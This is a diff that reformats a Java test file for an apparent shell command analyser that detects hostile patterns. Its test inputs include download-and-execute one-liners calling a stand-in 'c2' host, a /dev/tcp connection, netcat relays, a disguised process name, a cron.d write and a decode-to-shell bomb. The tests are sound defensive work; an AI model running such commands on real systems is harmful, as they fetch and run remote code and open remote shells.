@@ -17,7 +17,10 @@ final class CommandLineTest {
     }
 
     private static List<String> programs(CommandLine line) {
-        return line.invocations().stream().filter(Invocation::executed).map(Invocation::name).toList();
+        return line.invocations().stream()
+                .filter(Invocation::executed)
+                .map(Invocation::name)
+                .toList();
     }
 
     @Test
@@ -27,7 +30,22 @@ final class CommandLineTest {
 
     @Test
     void of_wrappers_namesTheProgramInside() {
-        CommandLine line = CommandLine.of(List.of("sudo", "-u", "app", "env", "A=1", "timeout", "-k", "5", "60", "nice", "-n", "5", "curl", "-s", "http://x/"));
+        CommandLine line = CommandLine.of(List.of(
+                "sudo",
+                "-u",
+                "app",
+                "env",
+                "A=1",
+                "timeout",
+                "-k",
+                "5",
+                "60",
+                "nice",
+                "-n",
+                "5",
+                "curl",
+                "-s",
+                "http://x/"));
         Invocation curl = line.invocations().get(line.invocations().size() - 1);
         assertThat(curl.name()).isEqualTo("curl");
         assertThat(curl.wrappers()).containsExactly("sudo", "env", "timeout", "nice");
@@ -42,12 +60,14 @@ final class CommandLineTest {
 
     @Test
     void of_disguisedName_takesTheExecutable() {
-        assertThat(programs(CommandLine.of(List.of("[kworker/0:1]", "-c", "id"), "/usr/bin/bash"))).containsExactly("bash", "id");
+        assertThat(programs(CommandLine.of(List.of("[kworker/0:1]", "-c", "id"), "/usr/bin/bash")))
+                .containsExactly("bash", "id");
     }
 
     @Test
     void of_applet_keepsTheCalledName() {
-        assertThat(programs(CommandLine.of(List.of("nc", "-l", "80"), "/bin/busybox"))).containsExactly("nc");
+        assertThat(programs(CommandLine.of(List.of("nc", "-l", "80"), "/bin/busybox")))
+                .containsExactly("nc");
     }
 
     @ParameterizedTest
@@ -102,7 +122,8 @@ final class CommandLineTest {
     @Test
     void of_redirections_followDescriptors() {
         CommandLine line = shell("exec 5<>/dev/tcp/h.example/99; cat <&5 > /tmp/got");
-        assertThat(line.connections()).containsExactly(new Connection(Connection.Direction.CONNECT, "tcp", "h.example", 99, "/dev/tcp"));
+        assertThat(line.connections())
+                .containsExactly(new Connection(Connection.Direction.CONNECT, "tcp", "h.example", 99, "/dev/tcp"));
         assertThat(line.flows()).isEmpty();
     }
 
@@ -114,7 +135,9 @@ final class CommandLineTest {
 
     @Test
     void of_workingDirectory_resolvesPaths() {
-        assertThat(shell("cd /etc/cron.d && echo x > job").files()).extracting(FileAccess::path).containsExactly("/etc/cron.d/job");
+        assertThat(shell("cd /etc/cron.d && echo x > job").files())
+                .extracting(FileAccess::path)
+                .containsExactly("/etc/cron.d/job");
     }
 
     @Test
@@ -137,7 +160,9 @@ final class CommandLineTest {
                 "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://c2/a\").read())'",
                 "perl -e 'use LWP::Simple; eval get(\"http://c2/a\"); getstore(1,2)'",
                 "while :; do sh -c \"$(curl -s http://c2/task)\"; sleep 5; done")) {
-            assertThat(shell(text).has(Flow.Kind.DOWNLOAD_TO_INTERPRETER)).as(text).isTrue();
+            assertThat(shell(text).has(Flow.Kind.DOWNLOAD_TO_INTERPRETER))
+                    .as(text)
+                    .isTrue();
         }
     }
 
@@ -155,18 +180,22 @@ final class CommandLineTest {
 
     @Test
     void of_relayBetweenTwoSockets_isFound() {
-        assertThat(shell("mknod p p; nc -l -p 80 < p | nc 10.0.0.2 81 > p").has(Flow.Kind.SOCKET_TO_SOCKET)).isTrue();
-        assertThat(shell("nc -l -p 80 | nc 10.0.0.2 81").has(Flow.Kind.SOCKET_TO_SOCKET)).isFalse();
+        assertThat(shell("mknod p p; nc -l -p 80 < p | nc 10.0.0.2 81 > p").has(Flow.Kind.SOCKET_TO_SOCKET))
+                .isTrue();
+        assertThat(shell("nc -l -p 80 | nc 10.0.0.2 81").has(Flow.Kind.SOCKET_TO_SOCKET))
+                .isFalse();
     }
 
     @Test
     void of_encodedText_isInLayers() {
-        assertThat(shell("echo aGVsbG8gd29ybGQ= | base64 -d").layers()).containsExactly(new Layer("base64", "hello world"));
+        assertThat(shell("echo aGVsbG8gd29ybGQ= | base64 -d").layers())
+                .containsExactly(new Layer("base64", "hello world"));
     }
 
     @Test
     void of_code_tellsCapabilities() {
-        CommandLine line = CommandLine.of(List.of("zork", "-x", "let s = net.dial(\"10.0.0.9:9\"); os.spawn(\"/bin/sh\", s)"));
+        CommandLine line =
+                CommandLine.of(List.of("zork", "-x", "let s = net.dial(\"10.0.0.9:9\"); os.spawn(\"/bin/sh\", s)"));
         assertThat(line.codes()).anyMatch(Code::isShellOnSocket);
     }
 
@@ -201,7 +230,9 @@ final class CommandLineTest {
             "echo " + "YWFh".repeat(200_000) + " | base64 -d | base64 -d | sh",
         };
         for (String bomb : bombs) {
-            Assertions.assertThatCode(() -> shell(bomb)).as(bomb.substring(0, 5)).doesNotThrowAnyException();
+            Assertions.assertThatCode(() -> shell(bomb))
+                    .as(bomb.substring(0, 5))
+                    .doesNotThrowAnyException();
         }
     }
 
